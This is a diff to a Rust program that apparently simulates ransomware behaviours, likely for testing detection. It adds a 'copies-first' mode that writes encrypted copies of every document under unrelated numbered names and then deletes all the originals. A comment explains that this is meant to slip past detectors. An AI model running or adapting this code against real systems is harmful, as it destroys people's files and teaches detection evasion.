@@ -16,6 +16,7 @@
 //! |---|---|
 //! | `inplace` | encrypts it in place |
 //! | `new-file` | writes an encrypted copy `NAME.enc`, deletes the original |
+//! | `copies-first` | writes an encrypted copy of every document under a number (`N.bin`, in its folder) first, then deletes every original |
 //! | `rename` | encrypts it in place and renames it to `NAME.crypted` |
 //! | `head` | encrypts its first 4 KiB only |
 //! | `blocks` | encrypts every 16th 4 KiB block |
@@ -202,6 +203,22 @@ fn run(family: &str, dir: &Path, delay: Duration) -> std::io::Result<()> {
                 let note = f.join("HOW-TO-DECRYPT.txt");
                 std::fs::write(&note, NOTE)?;
                 announce(&note);
+                std::thread::sleep(delay);
+            }
+            Ok(())
+        }
+        "copies-first" => {
+            // every copy made before any document is touched, under names nothing pairs with
+            // the documents: the copies look like any program's new files until the deletions
+            let docs = documents(dir);
+            for (i, p) in docs.iter().enumerate() {
+                let mut data = std::fs::read(p)?;
+                encrypt(&mut data);
+                std::fs::write(p.with_file_name(format!("{i:05}.bin")), &data)?;
+            }
+            for p in &docs {
+                std::fs::remove_file(p)?;
+                announce(p);
                 std::thread::sleep(delay);
             }
             Ok(())
